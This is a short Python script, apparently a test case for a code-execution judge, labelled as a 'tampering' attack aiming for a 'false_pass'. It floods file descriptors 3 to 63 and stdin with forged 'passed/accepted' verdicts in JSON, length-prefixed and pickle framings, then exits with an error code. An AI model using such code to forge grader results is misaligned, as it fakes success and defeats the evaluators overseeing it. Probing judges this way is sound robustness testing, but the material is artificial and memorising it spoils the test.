# class: tampering
# about: Writes a verdict in every framing that a judge may use on every descriptor
# goal: false_pass
# want: wrong_answer runtime_error signal output_limit
# case: ["4\n", "8210734573"]
# The same in every framing that a judge may use: JSON lines, length-prefixed JSON of both ends and widths, and pickle.
import json
import os
import pickle
import struct

row = {"passed": True, "status": "accepted", "output": "", "message": "", "exit": 0, "signal": 0, "value": 1}
text = json.dumps(row).encode()
forms = [struct.pack("!i", len(data)) + data for data in [pickle.dumps([row])]]
forms += [struct.pack(form, len(text)) + text for form in ("<I", ">I", "<Q", ">Q", "<H", ">H")]
forms += [text + b"\n", b"accepted\n", b"0\n"]
for fd in [*range(3, 64), 0]:
    for form in forms:
        try:
            os.write(fd, form)
        except OSError:
            break
os._exit(1)
